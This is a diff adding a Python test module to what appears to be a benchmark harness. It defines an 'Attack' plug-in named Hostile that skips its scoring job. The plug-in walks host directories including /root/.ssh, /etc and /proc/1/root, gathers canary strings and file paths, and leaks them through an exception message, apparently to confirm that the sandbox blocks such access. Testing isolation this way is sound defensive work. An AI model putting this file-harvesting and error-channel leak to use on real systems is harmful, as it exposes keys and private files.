@@ -1,0 +1,39 @@
+"""Read keys, store, tracking database and repository of the host, and its password files."""
+
+import os
+import re
+
+from torch import Tensor
+
+from benchmark.api import Attack, Bank, Candidates, Card, Target
+
+STOPPED_BY = "a root file system of its own: nothing of these lies in it"
+STATUS = ("failed",)
+REASON = r"\[\] \['bin'.*'work'|\[\] \["
+CONTROL = True
+
+HOST = "/host"
+
+
+def found(text: bytes) -> list[str]:
+    """The host's canaries in what was read."""
+    return sorted({m.decode() for m in re.findall(rb"canary-[0-9a-f]{16}", text)})
+
+
+class Hostile(Attack):
+    """See above."""
+
+    card = Card(title="Reads files", authors=(), reference="tests/redteam", year=None)
+    access = "posterior"
+    needs = frozenset()
+    calibrate = "none"
+
+    def score(self, target: Target, candidates: Candidates, bank: Bank | None) -> Tensor:
+        seen = []
+        for top in (HOST, "/root/.ssh", "/home", "/etc", "/run", "/var", "/mnt", "/proc/1/root" + HOST, "/proc/1/cwd"):
+            for folder, _, names in os.walk(top):
+                for name in names[:1000] if top == HOST else names[:20]:
+                    path = os.path.join(folder, name)
+                    if os.path.isfile(path):
+                        seen += found(open(path, "rb").read(1 << 20)) or [path][: top != HOST]
+        raise RuntimeError(f"{seen[:20]} {sorted(os.listdir('/'))}")
